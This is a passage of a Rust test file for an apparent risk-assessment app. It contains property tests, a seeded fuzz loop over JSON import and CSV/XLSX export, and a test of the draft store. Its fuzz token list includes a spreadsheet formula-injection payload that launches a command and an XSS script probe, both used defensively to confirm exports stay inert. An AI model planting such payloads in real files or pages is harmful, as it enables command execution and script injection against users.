            let back = import(text.as_bytes()).map(|e| e.assessment);
            prop_assert_eq!(back.as_ref(), Ok(&a));
            // And byte for byte.
            prop_assert_eq!(export(&back.unwrap_or_default(), NOW), text);
        }

        #[test]
        fn csv_and_xlsx_cells_are_never_formulas(a in valid_assessment()) {
            // Panics inside are failures that proptest shrinks, like prop_assert.
            check_exports(&a);
        }

        #[test]
        fn a_damaged_valid_file_never_panics_and_says_where(
            a in valid_assessment(), pick in any::<usize>(), new in leaf(),
        ) {
            let mut v: Value = serde_json::from_str(&export(&a, NOW)).expect("JSON");
            replace_somewhere(&mut v, pick, new);
            let bytes = serde_json::to_vec_pretty(&v).expect("JSON");
            if let Err(e) = import(&bytes) {
                prop_assert!(e.position.is_some(), "{}", e);
                let shown = e.to_string();
                if let Some(p) = &e.path {
                    prop_assert!(shown.starts_with(p.as_str()), "{}", shown);
                }
                // The store refuses it the same way and keeps its data.
                let before = Rc::new(State::with(example()));
                let after = before.clone().reduce(Action::Import { name: "f".into(), bytes: bytes.into() });
                prop_assert!(Rc::ptr_eq(&before.assessment, &after.assessment));
            }
        }
    }
}

// ---------------------------------------------------------------- bounded fuzzing on stable

/// A small xorshift generator: the same inputs on every run.
struct XorShift(u64);

impl XorShift {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }

    fn below(&mut self, n: usize) -> usize {
        (self.next() % n.max(1) as u64) as usize
    }
}

const TOKENS: &[&[u8]] = &[
    b"{",
    b"}",
    b"[",
    b"]",
    b",",
    b":",
    b"\"",
    b"\\",
    b"null",
    b"-1",
    b"1e999",
    b"0.5",
    b"\"A-17\"",
    b"\"5.99\"",
    b"\"T999\"",
    b"\xff",
    b"\xef\xbb\xbf",
    b"\"format\"",
    b"\"schema_version\": 2",
    b"\"kind\": \"event_based\"",
    b"=cmd|' /C calc'!A0",
    b"<script>alert(1)</script>",
    b"\n",
];

/// One mutation of `input`, as a fuzzer would make it.
fn mutate(rng: &mut XorShift, input: &mut Vec<u8>, corpus: &[Vec<u8>]) {
    let len = input.len();
    match rng.below(8) {
        0 if len > 0 => {
            let at = rng.below(len);
            input[at] = rng.next() as u8;
        }
        1 if len > 0 => {
            let at = rng.below(len);
            let n = rng.below(64).min(len - at);
            input.drain(at..at + n);
        }
        2 => {
            let at = rng.below(len + 1);
            let t = TOKENS[rng.below(TOKENS.len())];
            input.splice(at..at, t.iter().copied());
        }
        3 if len > 0 => {
            let from = rng.below(len);
            let n = rng.below(256).min(len - from);
            let chunk = input[from..from + n].to_vec();
            let at = rng.below(len + 1);
            input.splice(at..at, chunk);
        }
        4 if len > 0 => input.truncate(rng.below(len)),
        5 => {
            // Splice in part of another corpus file.
            let other = &corpus[rng.below(corpus.len())];
            if !other.is_empty() {
                let from = rng.below(other.len());
                let n = rng.below(512).min(other.len() - from);
                let at = rng.below(len + 1);
                input.splice(at..at, other[from..from + n].iter().copied());
            }
        }
        6 if len > 0 => {
            // Flip a digit: levels and ids go out of range.
            let at = rng.below(len);
            if input[at].is_ascii_digit() {
                input[at] = b'0' + rng.below(10) as u8;
            }
        }
        _ => {
            let at = rng.below(len + 1);
            input.insert(at, b"{}[]\",:0a\\"[rng.below(10)]);
        }
    }
}

/// The entry points `fuzz/` exercises: import, then every export of what
/// imported. Nothing may panic; exports must stay neutral and re-import.
fn exercise(bytes: &[u8]) -> bool {
    match import(bytes) {
        Ok(env) => {
            let a = env.assessment;
            check_exports(&a);
            let again = import(export(&a, NOW).as_bytes()).map(|e| e.assessment);
            assert_eq!(again.as_ref(), Ok(&a));
            true
        }
        Err(e) => {
            assert!(!e.message.is_empty());
            false
        }
    }
}

/// Runs `ANNEXA_FUZZ_ITERATIONS` (default 3,000) mutated inputs from the
/// fixtures through [`exercise`]. `fuzz/` does the same with coverage
/// guidance when `cargo fuzz` (nightly) is installed.
#[test]
fn stable_fuzz_loop_over_import_and_exports() {
    let iterations: usize = std::env::var("ANNEXA_FUZZ_ITERATIONS")
        .ok()
        .and_then(|s| s.parse().ok())
        .unwrap_or(3_000);
    let mut corpus = vec![
        fixture("v1-example.json"),
        fixture("v1-minimal.json"),
        export(&hostile_assessment(FORMULAS), NOW).into_bytes(),
    ];
    let seeds = corpus.len();
    let mut rng = XorShift(0x5EED_A11E_0000_0001);
    let (mut ok, mut refused) = (0usize, 0usize);
    for _ in 0..iterations {
        let mut input = corpus[rng.below(corpus.len())].clone();
        for _ in 0..=rng.below(4) {
            mutate(&mut rng, &mut input, &corpus);
        }
        input.truncate(MAX_IMPORT_BYTES + 16);
        if exercise(&input) {
            ok += 1;
            // Keep a few valid mutants as new seeds, as a fuzzer's corpus grows.
            if corpus.len() < seeds + 32 {
                corpus.push(input);
            }
        } else {
            refused += 1;
        }
    }
    eprintln!(
        "stable fuzz loop: {iterations} executions ({ok} imported, {refused} refused), 0 crashes"
    );
    assert_eq!(ok + refused, iterations);
}

#[test]
fn drafts_live_in_the_store_until_saved_and_never_in_the_assessment() {
    use annexa::store::{Draft, DraftKind};
    use yew::prelude::Reducible;
    let state = std::rc::Rc::new(State::with(example()));
    let risk = state.assessment.risks[0].clone();
    let state = state.reduce(Action::SetDraft(Draft::Risk(Box::new(risk.clone()))));
    assert_eq!(state.drafts.risk.as_ref(), Some(&risk));
    assert_eq!(
        state.revision, 0,
        "a draft is not a change to the assessment"
    );
    let state = state.reduce(Action::ClearDraft(DraftKind::Risk));
    assert!(state.drafts.is_empty());

    let control = state
        .assessment
        .soa
        .entries
        .keys()
        .next()
        .copied()
        .unwrap_or_else(|| CONTROLS[0].id);
    let entry = SoaEntry {
        exclusion_justification: "typed".into(),
        ..Default::default()
    };
    let before = state.assessment.clone();
    let state = state.reduce(Action::SetDraft(Draft::Soa(control, entry.clone())));
    assert_eq!(state.assessment, before, "typed text waits in the drafts");
    let state = state.reduce(Action::CommitSoaDrafts);
    assert!(state.drafts.soa.is_empty());
    assert_eq!(
        state
            .assessment
            .soa
            .entries
            .get(&control)
            .map(|e| e.exclusion_justification.as_str()),
        Some("typed")
    );

    let state = state.reduce(Action::SetDraft(Draft::Risk(Box::new(risk))));
    let state = state.reduce(Action::New);
    assert!(
        state.drafts.is_empty(),
        "a new assessment drops the old one's drafts"
    );
}
